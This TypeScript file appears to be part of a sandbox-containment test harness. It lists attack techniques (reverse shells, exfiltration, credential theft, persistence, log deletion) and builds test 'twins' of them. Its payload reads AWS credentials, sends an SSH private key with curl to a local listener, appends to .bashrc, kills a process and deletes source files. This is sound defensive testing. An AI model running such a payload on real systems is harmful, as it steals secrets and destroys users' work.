import type { Attempt, Outside } from './attempts.ts'
import { harms } from './twins-harms.ts'
import { shells } from './twins-shells.ts'
import { quoted } from './words.ts'

/**
 * For each technique among harmful commands that are answered `contain`, attempts of our own that do the same. Each is
 * executed twice: behind the walls, where nothing may come of it, and without them (inside an outer sandbox that holds the
 * scene alone), where something must.
 */
export interface Twin extends Attempt {
  readonly technique: Technique
  /** Programs that have to be there for it; elsewhere another twin of its technique stands for it. */
  readonly needs: readonly string[]
  /** It executes `h.sh`: behind the walls, too, that must have happened. */
  readonly hasPayload: boolean
  /** What it does to the workspace must wait for a person. */
  readonly isHeld: boolean
}

/** The payload sends, kills and writes at once: all of it is seen. What it reads is not, where its output is swallowed. */
const PAYLOAD = /a listener was reached; a process outside was reached; .*changed outside/

/** What comes of each technique without walls. */
export const SEEN = {
  'a shell that calls back': /a listener was reached/,
  'a file sent by an interpreter': /a listener was reached/,
  'a file sent by a client and its settings': /a listener was reached/,
  'a directory served to others': /a listener was reached/,
  'the memory of another process': /a secret was read|a process outside was reached/,
  'a store of credentials': /a secret was read/,
  'variables printed': /a secret was read/,
  'a service told to delete': /a listener was reached|other.home.app.db/,
  'a shell from a program that starts another': PAYLOAD,
  'a shell from an interpreter': PAYLOAD,
  'a shell from a build tool': PAYLOAD,
  'a shell from a pager, an editor or an archiver': PAYLOAD,
  'a library that is loaded': PAYLOAD,
  'a variable that loads code': PAYLOAD,
  'an option that loads code': PAYLOAD,
  'a text that becomes a command': PAYLOAD,
  'a name that is put together': PAYLOAD,
  'code that is fetched': PAYLOAD,
  'code that was written before': PAYLOAD,
  'code in a start file of an interpreter': /changed outside: home.\./,
  'a program in the place of another': /changed outside: home.(?:\.|bin)/,
  'settings that take effect later': /\.git.config|package\.json|Makefile|settings/,
  'scripts of others infected': /changed outside: (?:home|other)/,
  'logs deleted': /bash_history|hook\.key/,
  'work destroyed by an interpreter': /changed outside: home.project/,
} as const satisfies Readonly<Record<string, RegExp>>

export type Technique = keyof typeof SEEN

export const TECHNIQUES = Object.keys(SEEN) as readonly Technique[]

const IN_THE_WORKSPACE: ReadonlySet<Technique> = new Set<Technique>([
  'settings that take effect later',
  'work destroyed by an interpreter',
])

/** Left behind by the payload. */
export const TRIED = 'tried-3b7f'

export type Rows = readonly (readonly [name: string, needs: string, text: string])[]

export function twins(outside: Outside): readonly Twin[] {
  const { root, tcp4, victim } = outside
  // Everything at once, so that one wall that stands hides no other that does not.
  const payload = [
    `: > ${root}/home/project/${TRIED}`,
    `cat ${root}/home/.aws/credentials ${root}/home/project/.env`,
    `curl -s --max-time 3 --data-binary @${root}/home/.ssh/id_ed25519 http://127.0.0.1:${tcp4}/reached`,
    `echo x > ${root}/other/home/target.txt`,
    `echo 'sh h.sh' >> ${root}/home/.bashrc`,
    `kill -9 ${victim}`,
    `rm -rf ${root}/home/project/src`,
  ].join('\n')
  const before = `printf '%s\\n' ${quoted(payload)} > h.sh; printf '#!/bin/sh\\nexec sh %s/h.sh\\n' "$PWD" > h; chmod 755 h; `
  const executions = shells(outside)
  const all: Readonly<Record<Technique, Rows>> = { ...harms(outside), ...executions }
  return TECHNIQUES.flatMap((technique) => {
    const hasPayload = Object.hasOwn(executions, technique)
    return all[technique].map(([name, needs, text]) => ({
      kind: 'technique' as const,
      technique,
      name: `${technique}: ${name}`,
      needs: needs.split(' ').filter((word) => word !== ''),
      hasPayload,
      isHeld: hasPayload || IN_THE_WORKSPACE.has(technique),
      text: (hasPayload ? before : '') + text,
    }))
  })
}

/** Techniques that come down to executing something: it is the payload. */
export type Execution =
  | `a shell from ${string}`
  | 'a library that is loaded'
  | `${'a variable' | 'an option'} that loads code`
  | 'a text that becomes a command'
  | 'a name that is put together'
  | 'code that is fetched'
  | 'code that was written before'
